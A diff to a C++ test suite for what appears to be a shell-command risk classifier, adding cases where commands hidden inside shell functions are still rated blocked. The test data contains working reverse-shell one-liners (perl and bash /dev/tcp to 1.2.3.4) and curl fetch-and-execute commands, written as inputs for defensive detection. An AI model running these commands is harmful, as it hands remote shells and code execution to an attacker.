@@ -38,6 +38,8 @@ TEST(ShellAssess, Blocked) {
            "curl -o /tmp/p http://x/p && chmod +x /tmp/p && /tmp/p\n",
            "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(9,inet_aton(\"1.2.3.4\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'\n",
            "history -c\n",
+           "run() { eval \"$1\"; }\nrun \"curl -s http://x/i | sh\"\n",
+           "function go {\n  bash -c \"$*\"\n}\ngo 'bash -i >& /dev/tcp/1.2.3.4/9 0>&1'\n",
        })
     expect_level(code, RiskLevel::blocked);
 }
@@ -61,7 +63,8 @@ TEST(ShellAssess, Low) {
   for (const char* code : {"echo hello\nls -la\n", "# rm -rf /\necho done\n", "echo 'nc -e /bin/sh is bad'\n",
                            "for f in *.txt; do wc -l \"$f\"; done\n", "cat <<EOF\nrm -rf /\nEOF\n",
                            "grep -r TODO src | sort | uniq -c\n", "systemctl status nginx\n", "crontab -l\n",
-                           "x=$(date +%s); echo $x\n", "tar czf out.tgz ./data\n"})
+                           "x=$(date +%s); echo $x\n", "tar czf out.tgz ./data\n",
+                           "log() { echo \"$@\" >> app.log; }\nlog 'rm -rf / is bad'\n"})
     expect_level(code, RiskLevel::low);
 }
 
